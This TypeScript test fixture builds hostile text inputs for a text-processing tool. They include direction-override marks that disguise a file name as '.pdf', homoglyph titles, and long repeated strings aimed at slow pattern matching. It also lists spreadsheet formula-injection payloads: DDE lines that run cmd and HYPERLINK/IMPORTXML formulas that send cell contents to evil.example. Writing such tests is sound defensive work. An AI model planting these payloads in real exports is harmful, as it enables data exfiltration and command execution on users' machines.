// Titles and texts that deceive the eye, break an export, or make a pattern go back over what it has read.
import { combine, type HostileInput, named } from './input.ts';

/** Marks that turn the direction of what follows, hide, or stand on top of each other. */
const TURNING = ['\u202e', '\u202d', '\u2066', '\u2067', '\u200f', '\u061c'];
const PLACES: readonly [name: string, put: (mark: string) => string][] = [
  ['before', (mark) => `${mark}Harbour closed, mayor says`],
  ['in a name', (mark) => `Mayor Mara Qu${mark}ill said on 2 May 2023 that the pier is safe.`],
  ['before a file ending', (mark) => `report-${mark}fdp.exe`],
  ['many', (mark) => `${mark.repeat(3000)}end`],
];
const turned = combine('direction', [TURNING, PLACES.map(([name]) => name)], (mark, name) =>
  (PLACES.find(([known]) => known === name)?.[1] ?? String)(mark ?? ''),
);

const disguises = named('disguise', [
  'Тhе Dаily Ехamplе',
  'Ｔｈｅ Ｄａｉｌｙ Ｅｘａｍｐｌｅ',
  '𝐓𝐡𝐞 𝐃𝐚𝐢𝐥𝐲',
  'The\u00a0Daily\u2003Example\u200b',
  `T${'\u0301'.repeat(2000)}he Daily`,
  '\u{e0054}\u{e0068}\u{e0065}',
  '\ud800 lone \udc00 halves \ud800',
  '\ufeff\ufeff\ufffe\uffff',
  '\0\u0001\u0007\u001b[31mred\u001b[0m',
  '👩‍👩‍👧‍👦'.repeat(500),
  'İıſK'.repeat(200),
  'ﷺ'.repeat(500),
]);

/** A spreadsheet would calculate or run them. */
export const formulas: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"a")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  "'=1+1",
  '=IMPORTXML("https://evil.example","//a")',
  '=DDE("cmd";"/c calc";"x")',
  ';=1+1',
  '",=1+1,"',
  '"\r\n=1+1',
];

/** Pieces on which patterns may stick when they come by the thousand. */
const REPEATED = [
  'a',
  ' ',
  '\n',
  '\t ',
  '1',
  '1/',
  '1-',
  '1:',
  '1,',
  '1.',
  '.',
  '. ',
  '“',
  '” ',
  '"',
  "'",
  '’s ',
  '(',
  ')(',
  '[',
  '<',
  '&',
  '&amp;',
  '-',
  '– ',
  ', ',
  'A. ',
  'Dr. ',
  'said ',
  'he said, ',
  'said that ',
  'according to ',
  'Mr. A said ',
  'in May ',
  'May ',
  'on Monday ',
  'last week ',
  'between 1 and ',
  '2023 ',
  '2 May 2023, ',
  'Reuters ',
  'the Daily ',
  'Van der ',
  'O’',
  'é',
  'ß',
  '王',
  'م',
  '👩‍🚀',
  '\u00ad',
  '\u200d',
  'https://a.example/ ',
  'http://',
  'tag:',
  '-',
  'a"',
  '="',
  '\\',
  '{',
  '}{',
  '|',
  '*',
  '_',
  '`',
  '#',
  '> ',
];
export const LONG = 6000;
const repeated: HostileInput[] = REPEATED.flatMap((piece) => [
  { name: `repeated: ${JSON.stringify(piece)}`, text: piece.repeat(Math.ceil(LONG / piece.length)) },
  {
    name: `repeated, other end: ${JSON.stringify(piece)}`,
    text: `The mayor said ${piece.repeat(Math.ceil(LONG / piece.length))}!x`,
  },
]);

export const titles: readonly HostileInput[] = [...turned, ...disguises, ...named('formula', formulas)];
export const words: readonly HostileInput[] = [...titles, ...repeated];
